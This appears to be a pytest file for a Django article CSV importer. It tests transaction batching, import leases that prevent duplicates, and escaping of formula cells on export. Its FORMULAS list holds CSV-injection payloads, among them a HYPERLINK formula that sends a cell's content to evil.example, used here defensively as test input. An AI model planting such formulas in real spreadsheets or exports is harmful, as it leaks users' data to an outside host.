"""An import, however long: nobody waits for it, nothing of it is there twice, and no cell of an export is a formula."""

from __future__ import annotations

import csv
import io
import threading
import uuid
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from itertools import pairwise
from typing import Any

import httpx
import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.db import connection, connections
from django.db.models import F
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from knowledge import import_leases, importing
from knowledge.article_files import COLUMNS, Draft, read_csv, write_csv
from knowledge.importing import Imported, NotImported, import_articles
from knowledge.models import TEXT_FIELDS, Article, ArticleVersion, ImportLease
from tenants.models import Tenant
from tests.support.actors import Actor, new_actor
from tests.support.client import script

SOON = 60.0


def drafts(count: int, *, body: str = "Text.", **fields: str) -> list[Draft]:
    return [Draft(f"line {n}", {"title": f"Title {n}", "body": body, **fields}) for n in range(count)]


@pytest.fixture
def tenant(db: None) -> Tenant:
    return new_actor("Acme").tenant


def stored(tenant: Tenant) -> int:
    return Article.objects.for_tenant(tenant.id).count()


# --- How long it holds the database ---


def sizes(tenant: Tenant, given: list[Draft], seconds_each: float) -> list[int]:
    """How many articles each transaction stored, by a clock on which an article takes so long."""
    done = [0]

    def clock() -> float:
        versions = ArticleVersion.objects.for_tenant(tenant.id).count()
        return (stored(tenant) + versions) * seconds_each

    def pause(seconds: float) -> None:
        done.append(round(clock() / seconds_each))

    begun = round(clock() / seconds_each)
    import_articles(tenant=tenant, drafts=given, clock=clock, pause=pause)
    done = [begun, *done[1:], round(clock() / seconds_each)]
    return [after - before for before, after in pairwise(done)]


def test_a_transaction_ends_when_its_time_is_over(tenant: Tenant) -> None:
    each = 0.004
    in_time = importing.BATCH_SECONDS / each
    new = sizes(tenant, drafts(100), each)
    assert sum(new) == 100
    # New ones are stored a few at a time, and those begun are ended.
    assert max(new) <= in_time + importing._GROUP
    changed = sizes(tenant, drafts(100, body="Another."), each)
    assert sum(changed) == 100
    assert max(changed) <= in_time + 1


def test_long_articles_are_stored_one_by_one(tenant: Tenant) -> None:
    assert sizes(tenant, drafts(6, body="x" * importing.MOST_CHARACTERS), importing.BATCH_SECONDS) == [1] * 6


def test_who_writes_is_served_between_two_transactions(transactional_db: None) -> None:
    tenant = new_actor("Acme").tenant
    writers = ThreadPoolExecutor(1)

    def write() -> None:
        try:
            Tenant.objects.filter(id=tenant.id).update(queue_depth=F("queue_depth") + 1)
        finally:
            connections.close_all()

    served = []

    def pause(seconds: float) -> None:
        # The import waits until somebody else has written.
        writers.submit(write).result(SOON)
        served.append(seconds)

    now = iter(range(1_000_000))
    import_articles(tenant=tenant, drafts=drafts(60), clock=lambda: next(now) * 0.02, pause=pause)
    writers.shutdown()
    assert len(served) >= 2
    assert Tenant.objects.get(id=tenant.id).queue_depth == 10 + len(served)
    assert stored(tenant) == 60


def test_messages_are_accepted_while_thousands_of_rows_are_imported(live: Callable[..., Actor]) -> None:
    acme = live("Acme", model="openai:test", rest_per_minute=100_000)
    client = Client()
    client.force_login(User.objects.create_superuser(f"olga-{uuid.uuid4()}"))
    cookies = {settings.SESSION_COOKIE_NAME: client.cookies[settings.SESSION_COOKIE_NAME].value}
    text = "title,body\n" + "".join(f"Title {n},Some words of a body\n" for n in range(5_000))
    path = "/admin/agents/article/import/"
    imported: list[httpx.Response] = []

    def bring_in() -> None:
        with httpx.Client(base_url=acme.base, cookies=cookies, timeout=300) as browser:
            browser.get(path)
            fields = {"tenant": str(acme.tenant_id), "csrfmiddlewaretoken": browser.cookies["csrftoken"]}
            imported.append(browser.post(path, data=fields, files={"file": ("in.csv", text.encode())}))

    importer = threading.Thread(target=bring_in)
    importer.start()
    meanwhile = []
    while importer.is_alive():
        before = stored(acme.tenant)
        conversation = acme.new_conversation()
        answer = acme.customer("POST", f"/{conversation}/messages", json={"message": script(say="Hello")})
        if before and stored(acme.tenant) < 5_000:
            meanwhile.append(answer.status_code)
        importer.join(0.05)
    assert imported[0].status_code == 302, imported[0].text
    assert stored(acme.tenant) == 5_000
    assert meanwhile
    assert set(meanwhile) == {200}


# --- Nothing is there twice ---


def test_two_imports_at_once_bring_each_article_once(transactional_db: None) -> None:
    tenant = new_actor("Acme").tenant
    together = threading.Barrier(2)

    def bring_in() -> Imported:
        try:
            together.wait(SOON)
            return import_articles(tenant=tenant, drafts=drafts(80))
        finally:
            connections.close_all()

    with ThreadPoolExecutor(2) as threads:
        done = [threads.submit(bring_in) for _ in range(2)]
        told = sorted(str(each.result(SOON)) for each in done)
    assert told == ["0 new, 0 changed, 80 the same as before", "80 new, 0 changed, 0 the same as before"]
    assert stored(tenant) == 80
    assert not ImportLease.objects.for_tenant(tenant.id).exists()


def test_an_import_that_broke_off_says_how_far_it_came_and_is_done_again(tenant: Tenant) -> None:
    now = iter(range(1_000_000))
    paused = []

    def pause(seconds: float) -> None:
        paused.append(seconds)
        if len(paused) == 2:
            # It slept for so long that another one took its place.
            ImportLease.objects.for_tenant(tenant.id).delete()

    with pytest.raises(NotImported) as told:
        import_articles(tenant=tenant, drafts=drafts(60), clock=lambda: next(now) * 0.02, pause=pause)
    so_far = stored(tenant)
    assert 0 < so_far < 60
    assert f"{so_far} of 60 articles were imported before" in str(told.value)
    again = import_articles(tenant=tenant, drafts=drafts(60))
    assert (again.new, again.same, stored(tenant)) == (60 - so_far, so_far, 60)


def lease_until(tenant: Tenant, seconds: float) -> None:
    """As an import that runs, or whose process died, has it."""
    ImportLease.objects.create(tenant=tenant, expires_at=timezone.now() + timedelta(seconds=seconds))


def test_an_import_whose_process_died_holds_nobody_up(tenant: Tenant) -> None:
    lease_until(tenant, 1.0)
    assert import_articles(tenant=tenant, drafts=drafts(1)).new == 1


def test_who_waits_too_long_for_another_import_is_told(tenant: Tenant, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(import_leases, "MOST_WAITING_SECONDS", 0.3)
    lease_until(tenant, 600)
    with pytest.raises(NotImported, match="another import for this tenant is running"):
        import_articles(tenant=tenant, drafts=drafts(1))
    assert stored(tenant) == 0


def test_another_tenants_import_waits_for_nobody(tenant: Tenant) -> None:
    lease_until(new_actor("Globex").tenant, 600)
    assert import_articles(tenant=tenant, drafts=drafts(1)).new == 1


def test_an_article_that_is_deleted_meanwhile_is_told(tenant: Tenant) -> None:
    import_articles(tenant=tenant, drafts=drafts(60))
    now = iter(range(1_000_000))

    def pause(seconds: float) -> None:
        Article.objects.for_tenant(tenant.id).filter(title="Title 59").delete()

    changed = drafts(60, body="Another.")
    told = import_articles(tenant=tenant, drafts=changed, clock=lambda: next(now) * 0.02, pause=pause)
    assert (told.changed, told.problems) == (59, ["line 59: the article was deleted meanwhile. Import it again."])


@pytest.mark.parametrize("named", ["title", "source_url", "id"])
def test_thousands_that_are_alike_are_matched_in_as_many_steps(tenant: Tenant, named: str) -> None:
    """Whatever is the same in all of them. By a count of statements: none for each draft."""
    alike = [
        Draft(f"line {n}", {"id": str(uuid.uuid4()), "title": "Same", "body": "x", "source_url": "https://a.example/"})
        for n in range(300)
    ]
    if named != "id":
        for draft in alike:
            draft.fields[named] += f"{uuid.uuid4()}"
    with CaptureQueriesContext(connection) as captured:
        import_articles(tenant=tenant, drafts=alike)
    assert stored(tenant) == 300
    assert len([query for query in captured if query["sql"].startswith("SELECT")]) < 30


# --- Cells ---

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1",
    "-1",
    "- one\n- two",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'\t'-1",
    "'",
    "''",
    "'quoted'",
    "'tis",
    "a=1",
    "\ufeff=1+1",
    "x\n=1+1",
]


def written(tenant: Tenant) -> str:
    return "".join(write_csv(Article.objects.for_tenant(tenant.id).order_by("title", "id")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_comes_back_as_it_was_and_is_no_formula(tenant: Tenant, cell: str) -> None:
    fields: dict[str, Any] = dict.fromkeys(("title", "body", "category", "source_url"), cell)
    article = Article(tenant=tenant, **fields)
    [header, row] = csv.reader(io.StringIO("".join(write_csv([article])), newline=""))
    for each in row:
        assert not each.strip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
        assert not each.startswith(("\t", "\r"))
    [draft] = read_csv("".join(write_csv([article])), "out.csv")
    assert draft.fields == dict(
        zip(header, [str(article.id), *(getattr(article, f) for f in TEXT_FIELDS)], strict=True)
    )


def test_an_export_that_was_imported_is_exported_as_the_same_bytes(tenant: Tenant) -> None:
    given = [
        Draft(f"line {n}", {"title": f"{cell} {n}", "body": f"{cell} body", "category": cell})
        for n, cell in enumerate(FORMULAS)
        if cell.strip("' \ufeff")
    ]
    import_articles(tenant=tenant, drafts=given)
    first = written(tenant)
    told = import_articles(tenant=tenant, drafts=read_csv(first, "out.csv"))
    assert (told.new, told.changed, told.same) == (0, 0, len(given))
    other = new_actor("Globex").tenant
    import_articles(tenant=other, drafts=read_csv(first, "out.csv"))
    assert sorted(line.partition(",")[2] for line in written(other).split("\r\n")) == sorted(
        line.partition(",")[2] for line in first.split("\r\n")
    )
    assert written(tenant) == first


def test_the_columns_are_the_fields_of_an_article() -> None:
    assert ("id", *TEXT_FIELDS) == COLUMNS
